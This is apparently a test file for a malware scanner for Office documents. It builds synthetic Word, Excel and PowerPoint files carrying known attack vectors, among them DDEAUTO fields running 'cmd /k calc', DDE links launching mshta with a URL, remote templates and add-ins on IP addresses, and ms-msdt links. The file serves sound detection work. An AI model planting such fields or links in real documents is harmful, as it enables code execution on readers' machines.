/** Fields, links and actions of binary Word documents, workbooks and presentations. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { assertCheap } from '#inspect/testing/cpu-time.ts'
import { useInspector } from '#inspect/testing/inspector.ts'
import { fileMoniker, urlMoniker } from '#inspect/testing/objects-writer.ts'
import { writeOle } from '#inspect/testing/ole-writer.ts'
import { docx } from '#inspect/testing/samples.ts'
import { LOCATION_MAX, NAME_MAX, SECTIONS_MAX } from '../properties.ts'

const inspector = useInspector()
const idsOf = (bytes: Uint8Array): string[] => inspector.inspect(bytes).findings.map(({ id }) => id)

interface Piece {
  text: string
  wide?: boolean
}

/** A Word document whose pieces are stored in reverse order. */
function doc(pieces: readonly Piece[]): Buffer {
  const head = Buffer.alloc(0x200)
  head.writeUInt16LE(0xa5ec, 0)
  head.writeUInt16LE(0x0200, 0x0a)
  const positions: number[] = []
  let body = head
  for (const [i, { text, wide = false }] of [...pieces.entries()].reverse()) {
    positions[i] = wide ? body.length : (body.length * 2) | 0x40000000
    body = Buffer.concat([body, Buffer.from(text, wide ? 'utf16le' : 'latin1')])
  }
  const plc = Buffer.alloc((pieces.length + 1) * 4 + pieces.length * 8)
  let character = 0
  for (const [i, { text }] of pieces.entries()) {
    character += text.length
    plc.writeUInt32LE(character, i * 4 + 4)
    plc.writeUInt32LE(positions[i] ?? 0, (pieces.length + 1) * 4 + i * 8 + 2)
  }
  const table = Buffer.concat([Buffer.from([1, 2, 0, 0, 0, 2]), Buffer.alloc(4), plc])
  table.writeUInt32LE(plc.length, 6)
  return writeOle({ streams: { WordDocument: body, '1Table': table } })
}

suite('a field of a binary Word document', () => {
  test('that starts a program is found', () => {
    for (const pieces of [
      [{ text: 'a\x13 DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" \x14b\x15' }],
      [{ text: 'a\x13 DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" \x14b\x15', wide: true }],
      [{ text: '\x13 DD' }, { text: 'EAU', wide: true }, { text: 'TO cmd "/k calc"\x15' }],
      [{ text: '\x13 \x13 QUOTE 68 \x14DDEAUTO\x15 cmd "/k calc"\x14\x15' }],
      [{ text: '\x13 DDEAUTO \x13 QUOTE 99 \x14cmd\x15 /k\x15' }],
      [{ text: '\x13 PAGE \x14\x13DDE cmd /k\x15\x15' }],
      [{ text: '\x13 DDEAUTO cmd /k' }],
    ])
      assert.deepEqual(idsOf(doc(pieces)), ['Docvet.Doc.DdeField'], JSON.stringify(pieces))
  })
  test('is found without a piece table', () => {
    const word = Buffer.alloc(0x200)
    word.writeUInt16LE(0xa5dc, 0)
    const text = Buffer.from('\x13DDEAUTO cmd /k\x15', 'latin1')
    word.writeUInt32LE(word.length, 0x18)
    word.writeUInt32LE(word.length + text.length, 0x1c)
    assert.deepEqual(idsOf(writeOle({ streams: { WordDocument: Buffer.concat([word, text]) } })), [
      'Docvet.Doc.DdeField',
    ])
  })
  test('that loads from a server is judged as in other documents', () => {
    assert.deepEqual(idsOf(doc([{ text: '\x13INCLUDETEXT "http://example.com/a"\x14\x15' }])), [
      'Docvet.Office.RemoteText',
    ])
    assert.deepEqual(idsOf(doc([{ text: '\x13HYPERLINK "http://example.com/a"\x14\x15' }])), [
      'Docvet.Office.ExternalLinks',
    ])
  })
  test('that is ordinary is not reported, nor is text about fields', () => {
    assert.deepEqual(
      idsOf(doc([{ text: 'DDEAUTO cmd \x13 PAGE \x14DDE cmd\x15 INCLUDETEXT "http://a.example/"' }])),
      [],
    )
  })
})

suite('the template of a binary Word document', () => {
  const withTemplate = (template: string, size = 0): string[] => {
    const text = (value: string): Buffer => {
      const length = Buffer.alloc(2)
      length.writeUInt16LE(value.length)
      return Buffer.concat([length, Buffer.from(value, 'utf16le')])
    }
    const list = Buffer.concat([Buffer.from('ffff12000000', 'hex'), text('a'), text(template), Buffer.alloc(32)])
    const word = Buffer.alloc(0x200)
    word.writeUInt16LE(0xa5ec, 0)
    word.writeUInt16LE(0x0200, 0x0a)
    word.writeUInt32LE(16, 0x19a)
    word.writeUInt32LE(size || list.length, 0x19e)
    return idsOf(writeOle({ streams: { WordDocument: word, '1Table': Buffer.concat([Buffer.alloc(16), list]) } }))
  }
  test('on a server is judged as in other documents', () => {
    assert.deepEqual(withTemplate('http://192.0.2.1/a/Normal.dotm'), ['Docvet.Ooxml.RemoteTemplate'])
    assert.deepEqual(withTemplate('https://example.com/a.dotx'), ['Docvet.Ooxml.WebTemplate'])
    assert.deepEqual(withTemplate('\\\\192.0.2.1\\a\\b.dot'), ['Docvet.Ooxml.RemoteTemplate'])
  })
  test('on a named file server is no more than suspicious: companies kept theirs there', () => {
    assert.deepEqual(withTemplate('\\\\server\\a\\b.dot'), ['Docvet.Office.CompanyServer'])
    assert.deepEqual(withTemplate('\\\\files.example.com\\a\\b.dot'), ['Docvet.Ooxml.FileServerReference'])
  })
  test('on the same computer is not reported, nor is a list that is cut off', () => {
    for (const template of ['', 'Normal.dot', 'C:\\Templates\\a.dot']) assert.deepEqual(withTemplate(template), [])
    assert.deepEqual(withTemplate('http://192.0.2.1/a/Normal.dotm', 9), [])
  })
})

function record(id: number, data: Uint8Array): Buffer {
  const head = Buffer.alloc(4)
  head.writeUInt16LE(id, 0)
  head.writeUInt16LE(data.length, 2)
  return Buffer.concat([head, data])
}

const book = (...records: Buffer[]): string[] => {
  const start = record(0x0809, Buffer.from('0006050000000000000000000000', 'hex'))
  return idsOf(writeOle({ streams: { Workbook: Buffer.concat([start, ...records, record(0x0a, Buffer.alloc(0))]) } }))
}

function supBook(name: string, wide = false): Buffer {
  const head = Buffer.alloc(5)
  head.writeUInt16LE(name.length, 2)
  head[4] = wide ? 1 : 0
  return record(0x01ae, Buffer.concat([head, Buffer.from(name, wide ? 'utf16le' : 'latin1')]))
}

suite('a binary workbook', () => {
  test('that starts a program by DDE is found', () => {
    for (const name of [
      'cmd\x03/c calc',
      'C:\\Windows\\System32\\CMD.EXE\x03a',
      'MSEXCEL\x03\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc',
    ])
      for (const wide of [false, true]) assert.deepEqual(book(supBook(name, wide)), ['Docvet.Sheet.DdeCommand'], name)
    const short = Buffer.from('\x0dcmd\x03/c calc.e', 'latin1')
    assert.deepEqual(book(record(0x17, short)), ['Docvet.Sheet.DdeCommand'])
  })
  test('is read across records that continue others', () => {
    const cut = (whole: Buffer, at: number, ...flags: number[]): Buffer =>
      Buffer.concat([
        record(whole.readUInt16LE(0), whole.subarray(4, at)),
        record(0x3c, Buffer.from([...flags, ...whole.subarray(at)])),
      ])
    const command = supBook('cmd\x03/c calc')
    for (let at = 9; at < command.length; at++)
      for (const flags of [[], [0]])
        assert.ok(book(cut(command, at, ...flags)).includes('Docvet.Sheet.DdeCommand'), `${at} ${flags}`)
    assert.deepEqual(book(cut(supBook('REUTER\x03IDN'), 11)), ['Docvet.Sheet.DdeFeed'])
  })
  test('that reads a feed is a notice, another workbook nothing', () => {
    assert.deepEqual(book(supBook('REUTER\x03IDN')), ['Docvet.Sheet.DdeFeed'])
    assert.deepEqual(book(supBook('\x01folder\x03cmd.xls')), [])
  })
  test('that reads a workbook on a server without a name is suspicious, on a named one nothing', () => {
    for (const name of ['\x01\x01@192.0.2.1\x03share\x03b.xls', '\x01\x05\x18http://192.0.2.1/b.xls'])
      for (const wide of [false, true])
        assert.deepEqual(book(supBook(name, wide)), ['Docvet.Ooxml.FileServerReference'], name)
    for (const name of [
      '\x01\x01@server\x03share\x03b.xls',
      '\x01\x01Cfolder\x03b.xls',
      '\x01\x02\x04b.xls',
      '\x01\x05\x1ahttps://example.com/b.xls',
    ])
      assert.deepEqual(book(supBook(name)), [], name)
  })
  test('has its hyperlinks judged', () => {
    const link = (moniker: Buffer): Buffer =>
      record(
        0x01b8,
        Buffer.concat([
          Buffer.alloc(8),
          Buffer.from('d0c9ea79f9bace118c8200aa004ba90b', 'hex'),
          Buffer.alloc(8),
          moniker,
        ]),
      )
    assert.deepEqual(book(link(urlMoniker('https://example.com/'))), ['Docvet.Office.ExternalLinks'])
    assert.ok(book(link(urlMoniker('ms-msdt:/id a'))).includes('Docvet.Link.Troubleshooter'))
    assert.ok(book(link(fileMoniker('\\\\server\\a.exe'))).includes('Docvet.Link.FileServer'))
    assert.deepEqual(book(link(fileMoniker('C:\\a.xls'))), [])
  })
})

suite('a workbook in the binary format of Excel 2007', () => {
  const text = (value: string): Buffer => {
    const head = Buffer.alloc(4)
    head.writeUInt32LE(value.length)
    return Buffer.concat([head, Buffer.from(value, 'utf16le')])
  }
  const link = (server: string, topic: string): string[] => {
    const data = Buffer.concat([Buffer.from([1, 0]), text(server), text(topic)])
    const bytes = Buffer.concat([Buffer.from([0xe8, 0x02, (data.length & 0x7f) | 0x80, data.length >> 7]), data])
    return idsOf(docx({ 'xl/externalLinks/externalLink1.bin': bytes }))
  }
  test('has its DDE links judged', () => {
    assert.deepEqual(link('cmd', '/c calc'), ['Docvet.Sheet.DdeCommand'])
    assert.deepEqual(link('MSEXCEL', '\\..\\..\\Windows\\System32\\mshta.exe http://example.com/a'), [
      'Docvet.Sheet.DdeCommand',
    ])
    assert.deepEqual(link('REUTER', 'IDN'), ['Docvet.Sheet.DdeFeed'])
  })
})

function pptRecord(flags: number, type: number, data: Uint8Array): Buffer {
  const head = Buffer.alloc(8)
  head.writeUInt16LE(flags, 0)
  head.writeUInt16LE(type, 2)
  head.writeUInt32LE(data.length, 4)
  return Buffer.concat([head, data])
}

suite('a binary presentation', () => {
  const slides = (action: number, hover: boolean, target: string): string[] => {
    const id = Buffer.from([7, 0, 0, 0])
    const link = pptRecord(
      0xf,
      0x0fd7,
      Buffer.concat([pptRecord(0, 0x0fd3, id), pptRecord(0x10, 0x0fba, Buffer.from(target, 'utf16le'))]),
    )
    const atom = Buffer.concat([Buffer.alloc(4), id, Buffer.from([action]), Buffer.alloc(7)])
    const info = pptRecord(hover ? 0x1f : 0xf, 0x0ff2, pptRecord(0, 0x0ff3, atom))
    const stream = pptRecord(0xf, 0x03e8, Buffer.concat([link, pptRecord(0xf, 0x040b, info)]))
    return idsOf(writeOle({ streams: { 'PowerPoint Document': stream } })).filter(
      (one) => one !== 'Docvet.Office.ExternalLinks',
    )
  }
  test('that starts a program is malicious', () => {
    assert.deepEqual(slides(2, false, 'C:\\a.exe'), ['Docvet.Ooxml.ProgramAction'])
  })
  test('that opens an address without a click is reported', () => {
    assert.deepEqual(slides(4, true, 'https://example.com/'), ['Docvet.Ooxml.HoverAction'])
    assert.deepEqual(slides(4, false, 'https://example.com/'), [])
    assert.deepEqual(slides(3, true, 'https://example.com/'), [])
  })
})

suite('an add-in in the properties of a binary document', () => {
  const number = (...values: number[]): Buffer => Buffer.from(Uint32Array.from(values).buffer)
  const CLASS = Buffer.from('05d5cdd59c2e1b10939708002b2cf9ae', 'hex')
  function book(properties: Record<string, string>, isWide = false, others = 0): Buffer {
    const encode = (text: string): Buffer => Buffer.from(`${text}\0`, isWide ? 'utf16le' : 'latin1')
    const padded = (bytes: Buffer): Buffer => Buffer.concat([bytes, Buffer.alloc(-bytes.length & 3)])
    const names = Object.keys(properties).map((name, i) =>
      Buffer.concat([number(i + 2, name.length + 1), isWide ? padded(encode(name)) : encode(name)]),
    )
    const values = [
      padded(Buffer.concat([number(names.length), ...names])),
      number(2, isWide ? 1200 : 1252),
      ...Object.values(properties).map((text) =>
        padded(Buffer.concat([number(isWide ? 0x1f : 0x1e, text.length + 1), encode(text)])),
      ),
    ]
    return inBook(values, others)
  }
  function inBook(values: readonly Buffer[], others = 0): Buffer {
    let at = 8 + values.length * 8
    const places = values.map((value, id) => {
      at += value.length
      return number(id, at - value.length)
    })
    const head = Buffer.concat([
      Buffer.from('feff0000', 'hex'),
      Buffer.alloc(20),
      number(others + 1),
      Buffer.alloc(20 * others),
      CLASS,
      number(48 + 20 * others),
    ])
    const stream = Buffer.concat([head, number(at, values.length), ...places, ...values])
    return writeOle({ streams: { Workbook: Buffer.alloc(8), '\x05DocumentSummaryInformation': stream } })
  }
  test('is suspicious on a named server, malicious on a share or an IP address', () => {
    for (const isWide of [false, true]) {
      const location = (text: string) =>
        idsOf(book({ Owner: 'a', _AssemblyName: '4E3C', _AssemblyLocation: text }, isWide))
      assert.deepEqual(location('https://example.com/a.vsto|1'), ['Docvet.Ooxml.AddInLink'])
      assert.deepEqual(location('http://192.0.2.1/a.vsto|1'), ['Docvet.Ooxml.AddInShare'])
      assert.deepEqual(location('\\\\server\\a.vsto|1'), ['Docvet.Ooxml.AddInShare'])
    }
    const split = { _AssemblyLocation1: '0.2.1/a.vsto', _AssemblyLocation0: 'http://192.' }
    assert.deepEqual(idsOf(book(split)), ['Docvet.Ooxml.AddInShare'])
  })
  test('is nothing if it comes with the document, is another property or is cut off', () => {
    assert.deepEqual(idsOf(book({ _AssemblyLocation: 'a.vsto|1|vstolocal' })), [])
    assert.deepEqual(idsOf(book({ Homepage: 'http://192.0.2.1/a' })), [])
    const whole = Buffer.concat([Buffer.alloc(28), CLASS, number(0xfffffff0)])
    for (let length = 28; length <= whole.length; length += 4)
      assert.deepEqual(
        idsOf(writeOle({ streams: { a: Buffer.alloc(8), DocumentSummaryInformation: whole.subarray(0, length) } })),
        [],
      )
  })
  test('is found in the sections that are read', () => {
    const inSection = (others: number) => idsOf(book({ _AssemblyLocation: 'http://192.0.2.1/a' }, false, others))
    assert.deepEqual(inSection(SECTIONS_MAX - 1), ['Docvet.Ooxml.AddInShare'])
    assert.deepEqual(inSection(SECTIONS_MAX), [])
  })
  test('is known by the beginning of the name', () => {
    for (const isWide of [false, true]) {
      const named = (length: number) =>
        idsOf(book({ [`${'_AssemblyLocation'.padEnd(length - 1, '0')}x`]: 'http://192.0.2.1/a' }, isWide))
      assert.deepEqual(named(NAME_MAX), [])
      assert.deepEqual(named(NAME_MAX + 1), ['Docvet.Ooxml.AddInShare'])
    }
  })
  test('is judged by the beginning of the location, also in parts', () => {
    const address = 'http://a'
    const after = (length: number) => ({
      _AssemblyLocation0: ' '.repeat(length - address.length),
      _AssemblyLocation1: address,
    })
    assert.deepEqual(idsOf(book(after(LOCATION_MAX))), ['Docvet.Ooxml.AddInLink'])
    assert.deepEqual(idsOf(book(after(LOCATION_MAX + 1))), [])
  })
  test('in very many parts takes little time', () => {
    const count = 100_000
    const names = Array.from({ length: count }, (_, index) => {
      const name = `_AssemblyLocation${String((index * 7_919) % count).padStart(6, '0')}\0`
      return Buffer.concat([number(2, name.length), Buffer.from(name)])
    })
    const dictionary = Buffer.concat([number(count), ...names])
    const value = Buffer.concat([number(0x1e, LOCATION_MAX), Buffer.alloc(LOCATION_MAX)])
    assertCheap(() => assert.deepEqual(idsOf(inBook([dictionary, Buffer.alloc(0), value])), []))
  })
})
